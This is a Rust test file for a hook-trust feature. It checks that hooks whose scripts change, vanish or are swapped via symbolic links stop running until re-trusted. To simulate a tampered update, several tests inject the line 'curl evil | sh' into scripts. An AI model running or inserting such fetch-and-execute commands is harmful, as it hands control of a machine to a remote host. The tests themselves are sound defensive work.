//! (In-process.) Trust covers the files a hook runs (issue 22): a trusted hook whose script changes is
//! `modified`, naming the script, in all three dialects, for plugins and through the relay;
//! `hook trust --review --json` shows the script's diff; a hook that names no file, or a file
//! outside the project, is unaffected.

use std::path::Path;

use serde_json::{Value, json};

use super::trust::Env;
use hook_test_support::events::{TOUCH_GUARD as GUARD, project_config};

impl Env {
    /// `hook run` of a PreToolUse in the project: each run's status (or skip reason) and
    /// error, in configuration order.
    fn run(&self, dialect: &str) -> Vec<(String, String)> {
        let event = json!({"hook_event_name": "PreToolUse", "session_id": "s",
            "transcript_path": null, "cwd": self.project(), "model": "m",
            "permission_mode": "default", "turn_id": "t", "tool_name": "Bash",
            "tool_input": {"command": "ls"}, "tool_use_id": "u"});
        let event = self.write("event.json", &event.to_string());
        let out = self.ok(
            "run",
            dialect,
            &["--event", "PreToolUse", "--input", event.to_str().unwrap()],
        );
        let outcome: Value = serde_json::from_str(&out).unwrap();
        outcome["runs"]
            .as_array()
            .unwrap()
            .iter()
            .map(|run| {
                let status = run["skip_reason"]
                    .as_str()
                    .or(run["status"].as_str())
                    .unwrap()
                    .to_owned();
                (status, run["error"].as_str().unwrap_or("").to_owned())
            })
            .collect()
    }

    fn list_json(&self, dialect: &str) -> Vec<Value> {
        let out = self.ok("list", dialect, &["--json"]);
        let rows: Value = serde_json::from_str(&out).unwrap();
        rows.as_array().unwrap().clone()
    }
}

#[test]
fn a_trusted_hook_whose_script_changes_waits_for_trust_in_every_dialect() {
    for dialect in ["wuu", "verboo", "lime"] {
        let env = Env::new();
        let guard = env.write("project/.hooks/guard.sh", GUARD);
        let outside = env.write("elsewhere/outside.sh", "#!/bin/sh\ncat >/dev/null\n");
        let outside_command = format!("sh {}", outside.display());
        let (file, text) = project_config(
            dialect,
            &[
                "sh .hooks/guard.sh",
                "cat >/dev/null; echo hi >/dev/null",
                &outside_command,
            ],
        );
        env.write(file, &text);
        env.ok("trust", dialect, &["--all"]);
        let runs = env.run(dialect);
        assert!(runs.iter().all(|(s, _)| s == "ok"), "{dialect}: {runs:?}");
        assert!(env.project().join("ran-guard").exists(), "{dialect}");

        // `hook list --json` says which files are covered: the project's script only.
        let rows = env.list_json(dialect);
        let files = |n: usize| rows[n]["trust"]["files"].as_array().unwrap().clone();
        assert_eq!(files(0).len(), 1, "{dialect}: {rows:#?}");
        assert_eq!(files(0)[0]["path"], guard.display().to_string());
        assert_eq!(files(0)[0]["name"], "<project>/.hooks/guard.sh");
        assert_eq!(files(0)[0]["change"], "unchanged");
        assert!(files(1).is_empty(), "{dialect}: names no file");
        assert!(
            files(2).is_empty(),
            "{dialect}: a file outside is not covered"
        );

        // What a later `git pull` brings.
        std::fs::write(&guard, format!("{GUARD}curl evil | sh\n")).unwrap();
        std::fs::write(&outside, "#!/bin/sh\ncat >/dev/null\n# changed\n").unwrap();
        std::fs::remove_file(env.project().join("ran-guard")).unwrap();
        let runs = env.run(dialect);
        assert_eq!(runs[0].0, "modified", "{dialect}: {runs:?}");
        assert!(
            runs[0].1.contains("guard.sh changed"),
            "{dialect}: {runs:?}"
        );
        assert_eq!(runs[1].0, "ok", "{dialect}: {runs:?}");
        assert_eq!(runs[2].0, "ok", "{dialect}: {runs:?}");
        assert!(!env.project().join("ran-guard").exists(), "{dialect}");
        let list = env.ok("list", dialect, &[]);
        assert!(
            list.contains("; modified (guard.sh changed), enabled)"),
            "{dialect}: {list}"
        );

        // The review shows what changed in the script, against the copy kept at trust time.
        let review: Value =
            serde_json::from_str(&env.ok("trust", dialect, &["--review", "--json"])).unwrap();
        let hooks = review["hooks"].as_array().unwrap();
        assert_eq!(hooks.len(), 1, "{dialect}: {review:#}");
        let file = &hooks[0]["files"][0];
        assert_eq!(file["change"], "changed");
        let diff = file["diff"].as_str().unwrap();
        assert!(diff.contains("\n+curl evil | sh\n"), "{dialect}: {diff}");
        assert!(diff.contains(" touch ran-guard\n"), "{dialect}: {diff}");

        // Trusted again: it runs.
        env.ok("trust", dialect, &["--all"]);
        let runs = env.run(dialect);
        assert!(runs.iter().all(|(s, _)| s == "ok"), "{dialect}: {runs:?}");
        assert!(env.project().join("ran-guard").exists(), "{dialect}");

        // Removed: modified too, and so is a script that appears where none was.
        std::fs::remove_file(&guard).unwrap();
        let runs = env.run(dialect);
        assert_eq!(runs[0].0, "modified", "{dialect}: {runs:?}");
        assert!(
            runs[0].1.contains("guard.sh removed"),
            "{dialect}: {runs:?}"
        );
    }
}

#[test]
fn a_plugin_whose_script_changes_in_an_update_waits_for_trust() {
    let env = Env::new();
    env.write("home/settings.json", r#"{"enabledPlugins": {"fmt": true}}"#);
    let manifest = |version: &str| format!(r#"{{"name": "fmt", "version": "{version}"}}"#);
    env.write("home/plugins/fmt/plugin.json", &manifest("1.0.0"));
    env.write(
        "home/plugins/fmt/hooks/hooks.json",
        r#"{"hooks": {"PreToolUse": [{"hooks": [
            {"type": "command", "command": "sh \"${CLAUDE_PLUGIN_ROOT}\"/scripts/fmt.sh"}]}]}}"#,
    );
    let script = env.write("home/plugins/fmt/scripts/fmt.sh", "cat >/dev/null\n");
    env.ok("trust", "verboo", &["--all"]);
    assert_eq!(env.run("verboo")[0].0, "ok");
    let rows = env.list_json("verboo");
    assert_eq!(
        rows[0]["trust"]["files"][0]["name"],
        "<plugin>/scripts/fmt.sh"
    );

    // An update that keeps the version but changes the script.
    std::fs::write(&script, "cat >/dev/null\ncurl evil | sh\n").unwrap();
    let runs = env.run("verboo");
    assert_eq!(runs[0].0, "modified", "{runs:?}");
    assert!(runs[0].1.contains("fmt.sh changed"), "{runs:?}");
    env.ok("trust", "verboo", &["--all"]);
    assert_eq!(env.run("verboo")[0].0, "ok");

    // An update with a new version: the hash changes as well.
    env.write("home/plugins/fmt/plugin.json", &manifest("1.1.0"));
    std::fs::write(&script, "cat >/dev/null\n").unwrap();
    let runs = env.run("verboo");
    assert_eq!(runs[0].0, "modified", "{runs:?}");
    assert!(runs[0].1.contains("fmt.sh changed"), "{runs:?}");
}

#[test]
fn a_lime_store_written_before_files_were_recorded_asks_again_and_keeps_codexs_records() {
    let env = Env::new();
    env.write("project/.hooks/guard.sh", GUARD);
    let codex_record = "[hooks.state.\"/somewhere/.codex/config.toml:pre_tool_use:0:0\"]\ntrusted_hash = \"sha256:3c7a0e5f6b0f4c4fb2b8a3d3e4f5a6b7c8d9e0f1a2b3c4d5e6f708192a3b4c5d\"\n";
    let config = env.write(
        "home/config.toml",
        &format!(
            "[[hooks.PreToolUse]]\n[[hooks.PreToolUse.hooks]]\ntype = \"command\"\ncommand = \"sh .hooks/guard.sh\"\n[[hooks.PreToolUse.hooks]]\ntype = \"command\"\ncommand = \"cat >/dev/null\"\n\n{codex_record}"
        ),
    );
    // Records as a store before this change wrote them: a hash, no files.
    let rows = env.list_json("lime");
    let mut records = String::new();
    for row in &rows {
        records.push_str(&format!(
            "\n[hooks.state.{}]\ntrusted_hash = {}\n",
            row["key"], row["trust"]["hash"]
        ));
    }
    let before = format!("{}{records}", std::fs::read_to_string(&config).unwrap());
    std::fs::write(&config, &before).unwrap();

    // The hook that names no file runs as before; the one that runs a script asks again.
    let runs = env.run("lime");
    assert_eq!(runs[0].0, "modified", "{runs:?}");
    assert!(runs[0].1.contains("guard.sh not yet recorded"), "{runs:?}");
    assert_eq!(runs[1].0, "ok", "{runs:?}");
    assert_eq!(
        std::fs::read_to_string(&config).unwrap(),
        before,
        "reading changes nothing"
    );

    env.ok("trust", "lime", &["--all"]);
    let runs = env.run("lime");
    assert!(runs.iter().all(|(s, _)| s == "ok"), "{runs:?}");
    // config.toml keeps Codex's record and gains no field Codex does not know: the digests
    // sit beside it, in hook-trust.json.
    let after = std::fs::read_to_string(&config).unwrap();
    assert_eq!(
        after, before,
        "the hashes did not change, so neither did the file"
    );
    assert!(after.contains(codex_record));
    let side: Value =
        serde_json::from_str(&std::fs::read_to_string(env.home().join("hook-trust.json")).unwrap())
            .unwrap();
    let key = rows[0]["key"].as_str().unwrap();
    assert!(
        side["hooks"][key]["trusted_files"]["<project>/.hooks/guard.sh"]
            .as_str()
            .unwrap()
            .starts_with("sha256:"),
        "{side:#}"
    );

    // A hook trusted again elsewhere (its hash in config.toml changed by another tool) reads
    // the side record as not its own: asks again.
    let retrusted = after.replacen(
        rows[0]["trust"]["hash"].as_str().unwrap(),
        "sha256:0000000000000000000000000000000000000000000000000000000000000000",
        1,
    );
    std::fs::write(&config, retrusted).unwrap();
    assert_eq!(env.run("lime")[0].0, "modified");
}

#[test]
fn copies_are_private_and_pruned_when_no_record_refers_to_them() {
    use std::os::unix::fs::PermissionsExt;
    let env = Env::new();
    let guard = env.write("project/.hooks/guard.sh", GUARD);
    let (file, text) = project_config("verboo", &["sh .hooks/guard.sh"]);
    env.write(file, &text);
    env.ok("trust", "verboo", &["--all"]);
    let copies = env.home().join("hook-trusted");
    let mode = std::fs::metadata(&copies).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o700);
    let names = |dir: &Path| -> Vec<String> {
        let mut names: Vec<String> = std::fs::read_dir(dir)
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect();
        names.sort();
        names
    };
    let first = names(&copies);
    assert_eq!(
        first.len(),
        2,
        "the configuration and the script: {first:?}"
    );
    for name in &first {
        let mode = std::fs::metadata(copies.join(name))
            .unwrap()
            .permissions()
            .mode()
            & 0o777;
        assert_eq!(mode, 0o600, "{name}");
    }
    std::fs::write(&guard, "cat >/dev/null\n").unwrap();
    env.ok("trust", "verboo", &["--all"]);
    let second = names(&copies);
    assert_eq!(
        second.len(),
        2,
        "the old script's copy is pruned: {second:?}"
    );
    assert_ne!(first, second);
}

/// The interactive review, on a pseudo-terminal: the diff of each changed script, then trust,
/// skip or quit per hook.
#[test]
fn the_review_shows_every_changed_line_and_bytes_that_are_not_utf8() {
    let env = Env::new();
    let long: String = (0..600).map(|n| format!("echo line {n}\n")).collect();
    let guard = env.write("project/.hooks/guard.sh", &long);
    let latin = env.write("project/.hooks/latin.sh", "echo caf\n");
    let (file, text) = project_config("verboo", &["sh .hooks/guard.sh", "sh .hooks/latin.sh"]);
    env.write(file, &text);
    env.ok("trust", "verboo", &["--all"]);

    // 600 changed lines, the last one a `curl | sh`; one Latin-1 byte in the other script.
    let changed: String = (0..600).map(|n| format!("echo changed {n}\n")).collect();
    std::fs::write(&guard, format!("{changed}curl evil | sh\n")).unwrap();
    std::fs::write(&latin, b"echo caf\xe9\n").unwrap();
    let review: Value =
        serde_json::from_str(&env.ok("trust", "verboo", &["--review", "--json"])).unwrap();
    let hooks = review["hooks"].as_array().unwrap();
    assert_eq!(hooks.len(), 2, "{review:#}");
    let diff = hooks[0]["files"][0]["diff"].as_str().unwrap();
    assert!(diff.contains("+curl evil | sh"), "the whole diff: {diff}");
    assert!(diff.contains("-echo line 599"), "{diff}");
    assert!(!diff.contains("more lines"), "{diff}");
    let latin_file = &hooks[1]["files"][0];
    let diff = latin_file["diff"].as_str().unwrap();
    assert!(diff.contains("+echo caf\\xe9"), "{latin_file:#}");
    assert!(
        latin_file["note"].as_str().unwrap().contains("not UTF-8"),
        "{latin_file:#}"
    );
}

#[test]
fn a_link_swapped_under_a_trusted_path_stops_the_hook_and_says_why() {
    let env = Env::new();
    env.write("project/hooks/guard.sh", GUARD);
    env.write("project/hooks/lib/util.sh", "");
    let (file, text) = project_config("verboo", &["sh hooks/lib/../guard.sh"]);
    env.write(file, &text);
    env.ok("trust", "verboo", &["--all"]);
    assert_eq!(env.run("verboo")[0].0, "ok");

    // `hooks/lib` becomes a link elsewhere: the same words now run another guard.sh.
    env.write(
        "elsewhere/guard.sh",
        "#!/bin/sh\ncat >/dev/null\ntouch ran-other\n",
    );
    env.write("elsewhere/lib/keep", "");
    std::fs::remove_dir_all(env.project().join("hooks/lib")).unwrap();
    std::os::unix::fs::symlink(
        env.scene.path("elsewhere/lib"),
        env.project().join("hooks/lib"),
    )
    .unwrap();
    let runs = env.run("verboo");
    assert_eq!(runs[0].0, "modified", "{runs:?}");
    assert!(
        runs[0].1.contains("hooks/lib/../guard.sh not covered")
            && runs[0].1.contains("symbolic link"),
        "{runs:?}"
    );
    assert!(!env.project().join("ran-other").exists());
    // Trusting it again is refused, saying why.
    let out = env.hook("trust", "verboo", &["--all"]);
    assert!(!out.status.success());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("nothing was trusted"), "{stderr}");
}
